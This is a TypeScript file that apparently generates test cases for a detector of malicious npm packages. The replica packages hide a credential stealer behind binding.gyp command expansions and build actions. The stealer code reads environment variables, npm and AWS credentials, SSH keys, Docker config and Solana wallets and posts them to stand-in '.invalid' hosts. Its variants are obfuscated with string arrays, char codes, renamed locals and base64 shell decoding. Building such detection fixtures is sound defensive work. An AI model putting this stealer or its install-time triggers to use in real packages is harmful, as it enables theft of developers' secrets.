import { bundle } from '../bulk';
import { casesOf } from '../case';
import { charCodes, oneLine, renamedLocals, stringArray } from '../disguise/javascript';
import { npm } from '../packages';

const stealer = (host: string) => String.raw`
(function () {
  const fs = require('fs');
  const os = require('os');
  const https = require('https');
  const loot = [JSON.stringify(process.env)];
  for (const name of ['/.npmrc', '/.aws/credentials', '/.ssh/id_rsa', '/.docker/config.json', '/.config/solana/id.json']) {
    try { loot.push(fs.readFileSync(os.homedir() + name, 'utf8')); } catch (absent) {}
  }
  const request = https.request('https://${host}/gyp', { method: 'POST' });
  request.on('error', function () {});
  request.end(Buffer.from(loot.join('\n')).toString('base64'));
})();
`;

/** A target without a source: only its variables and what their expansion runs. */
const gyp = (command: string) => `{
  "variables": {
    "build_hash%": "${command}"
  },
  "targets": [
    {
      "target_name": "action_before_build",
      "type": "none",
      "sources": [],
      "copies": []
    }
  ]
}
`;

const ABOUT = 'Streams of events.';

export const phantomGyp = casesOf({
  id: 'phantom-gyp',
  incident: 'phantom-gyp',
  kind: 'binding-gyp',
  seen: 'no scripts: a command expansion in binding.gyp runs an oversized index.js, and there is no native source',
  replica: npm('leo-events', '4.1.5', () => ({
    about: ABOUT,
    files: { 'binding.gyp': gyp('<!(node index.js)') },
    index: (honest) =>
      `${honest}\n${oneLine(bundle('leo', 1_400_000))}${stringArray(stealer('leo-cron.invalid'), 'leo')}\n`,
  })),
  renamed: npm('queue-connector-aws', '2.0.9', () => ({
    about: 'Queues.',
    files: {
      'binding.gyp': gyp('<!@(node ./lib/detect.js --platform)'),
      'lib/detect.js': renamedLocals(stealer('queue-metrics.invalid'), 'queue'),
    },
  })),
  reObfuscated: npm('leo-events', '4.1.6', () => ({
    about: ABOUT,
    files: {
      'binding.gyp': `{
  # Paths of the tools.
  'targets': [{
    'target_name': 'noop',
    'type': 'none',
    'conditions': [
      ['OS!="none"', {
        'defines': [ 'V=<!(sh -c "$(echo ${Buffer.from('node ./lib/core.js').toString('base64')} | base64 -d)")' ],
      }],
    ],
  }],
}
`,
      'lib/core.js': charCodes(stealer('leo-cron.invalid'), 'leo'),
    },
  })),
  otherStage: {
    seen: 'an action of binding.gyp, not an expansion, runs a file that sends keys; there is no native source',
    sample: npm('leo-events', '4.1.7', () => ({
      about: ABOUT,
      files: {
        'binding.gyp': `{
  "targets": [
    {
      "target_name": "prepare",
      "type": "none",
      "actions": [
        {
          "action_name": "generate",
          "inputs": ["lib/generate.js"],
          "outputs": ["<(INTERMEDIATE_DIR)/generated.h"],
          "action": ["node", "lib/generate.js"]
        }
      ]
    }
  ]
}
`,
        'lib/generate.js': stealer('leo-cron.invalid'),
      },
    })),
  },
});
